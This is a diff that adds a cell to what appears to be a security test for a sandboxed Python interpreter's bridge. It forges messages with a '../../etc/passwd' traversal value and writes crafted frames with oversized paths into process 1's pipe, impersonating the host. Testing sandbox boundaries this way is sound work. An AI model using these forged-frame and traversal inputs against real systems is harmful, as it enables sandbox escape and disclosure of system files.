@@ -53,3 +53,14 @@ import gc
 [guest] = [it for it in gc.get_objects() if type(it).__name__ == "Interpreter"]
 for kind in FORGED:
     guest.channel.send((kind, guest.current, b"1 ../../etc/passwd\0"))
+
+# %% forged_past_process_1
+import os
+
+# What process 1 writes to the bridge: the last of its pipes, see launcher.py.
+places = ["/proc/1/fd/%s" % number for number in sorted(map(int, os.listdir("/proc/1/fd")))]
+host = os.open([place for place in places if os.readlink(place).startswith("pipe:")][-1], os.O_WRONLY)
+files = b"".join(b"1 %d%s\0" % (number, b"/a" * 2000) for number in range(20))
+frame = b"F" + (1).to_bytes(4, "big") + len(files).to_bytes(4, "big") + files
+while frame:
+    frame = frame[os.write(host, frame) :]
